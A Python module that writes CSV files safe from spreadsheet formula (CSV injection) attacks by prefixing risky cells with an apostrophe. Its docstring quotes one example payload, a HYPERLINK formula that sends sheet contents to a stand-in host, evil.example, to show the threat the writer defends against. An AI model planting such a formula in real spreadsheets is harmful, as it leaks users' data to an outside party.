"""CSV files that people open in a spreadsheet: no cell is ever taken as a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and, in some versions, a tab or carriage return before one) as a formula:
a roster name such as ``=HYPERLINK("https://evil.example/?"&A1)`` would become a live
link that sends the sheet away, or worse (CSV injection). Every CSV Opspor writes goes
through :class:`SpreadsheetWriter`, which prefixes such a cell with an apostrophe, the
spreadsheets' own "this is text" sign (OWASP's advice). The cell's text is otherwise
unchanged, so ``'-Anne`` still reads as ``-Anne`` to a person.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
TEXT_SIGN = "'"


def neutralised(value: object) -> str:
    """``value`` as cell text that no spreadsheet evaluates.

    Leading spaces are looked through too: some spreadsheets trim them on import and
    would then see the formula.
    """
    text = "" if value is None else str(value)
    if text.lstrip(" ").startswith(FORMULA_START):
        return TEXT_SIGN + text
    return text


class SpreadsheetWriter:
    """``csv.writer`` whose every cell is :func:`neutralised`; use it for every CSV we write."""

    def __init__(self, handle: TextIO, delimiter: str = ";"):
        self._writer = csv.writer(handle, delimiter=delimiter)

    def writerow(self, cells: Iterable[object]) -> None:
        self._writer.writerow([neutralised(cell) for cell in cells])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
